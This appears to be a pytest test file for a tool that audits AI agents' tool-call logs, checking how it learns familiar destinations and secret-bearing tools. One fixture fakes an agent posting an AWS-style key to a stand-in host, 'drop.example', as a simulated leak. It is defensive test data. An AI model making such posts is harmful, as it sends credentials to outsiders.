"""What earlier audits teach: familiar destinations, and tools whose results are sensitive."""

from __future__ import annotations

import json
from datetime import date
from pathlib import Path

import pytest

from afteraction.audit import Audit, baselines, history_step
from afteraction.lake import Lake, query, read_small

KEY = "AKIA" + "Q7RDM3ZNB5VXK2TW"


def line(session, call, tool, args, day, **more):
    base = {"session_id": session, "agent_id": "worker", "call_id": call, "tool": tool, "args": args}
    return json.dumps(base | {"time": f"2026-11-{day:02}T10:00:00Z"} | more)


def write(file, lines):
    file.write_text("\n".join(lines) + "\n")
    return file


def posts(first, count, day):
    url = {"url": "https://api.helper.example/v1", "body": "the weekly list"}
    return [line(f"s{n}", "c1", "http_post", url, day, result="ok") for n in range(first, first + count)]


def test_a_destination_that_many_sessions_reached_on_several_days_becomes_familiar(tmp_path):
    home = tmp_path / "home"
    past = [*posts(0, 8, 3), *posts(8, 8, 4), *posts(16, 8, 5)]
    Audit(home).run([write(tmp_path / "a.jsonl", past)])
    assert query(home, "SELECT bool_or(destination_familiar) FROM actions").item() is False
    assert history_step.known(home).familiar == {("default", "api.helper.example")}
    Audit(home).run([write(tmp_path / "b.jsonl", posts(30, 1, 6))])
    asked = "SELECT destination_class, destination_familiar FROM actions WHERE session_id = 's30'"
    assert query(home, asked).rows() == [("unknown", True)]
    found = "SELECT count(*) FROM findings WHERE detector = 'external_destination' AND session_id = 's30'"
    assert query(home, found).item() == 0


@pytest.mark.parametrize("past", [posts(0, 24, 3), [*posts(0, 4, 3), *posts(4, 4, 4), *posts(8, 4, 5)]])
def test_few_sessions_or_one_busy_day_make_nothing_familiar(tmp_path, past):
    Audit(tmp_path / "home").run([write(tmp_path / "a.jsonl", past)])
    assert history_step.known(tmp_path / "home").familiar == frozenset()


def test_attacks_make_no_destination_familiar(tmp_path):
    home = tmp_path / "home"
    leak = {"url": "https://drop.example/in", "body": f"key {KEY}"}
    past = [line(f"s{n}", "c1", "http_post", leak, 3 + n % 3, result="ok") for n in range(24)]
    Audit(home).run([write(tmp_path / "a.jsonl", past)])
    assert history_step.known(home).familiar == frozenset()


def test_a_tool_whose_results_held_secrets_is_a_secret_source_afterwards(tmp_path):
    home = tmp_path / "home"
    past = [line(f"s{n}", "c1", "fetch_blob", {"n": n}, 3, result=f"id {n} {KEY}") for n in range(4)]
    Audit(home).run([write(tmp_path / "a.jsonl", past)])
    assert history_step.known(home).sources == {("default", "fetch_blob"): "secret"}
    later = [line("s9", "c1", "fetch_blob", {"n": 9}, 4, result="nothing here")]
    Audit(home).run([write(tmp_path / "b.jsonl", later)])
    assert query(home, "SELECT source_sensitivity FROM actions WHERE session_id = 's9'").item() == "secret"


def test_files_are_counted_once_and_forgotten_with_their_rows(tmp_path):
    home = tmp_path / "home"
    log = write(tmp_path / "a.jsonl", posts(0, 3, 3))
    Audit(home).run([log])
    before = read_small(home, "counts/2026-11-03")
    assert not baselines.learn(home, Lake(home), Audit(home).casebook.tickets(), date(2026, 11, 4))
    assert read_small(home, "counts/2026-11-03").equals(before)
    write(log, [*posts(0, 3, 3), line("s0", "c2", "http_get", {"url": "https://a.example"}, 3, result="ok")])
    Audit(home).run([log])
    after = read_small(home, "counts/2026-11-03")
    assert after.filter(kind="reached", name="api.helper.example")["seen"].sum() == 3
    assert set(after["file"]) == {Path(file).name for file in Lake(home).files("actions")}


def test_nothing_is_known_before_the_first_audit(tmp_path):
    assert history_step.known(tmp_path) == history_step.History()
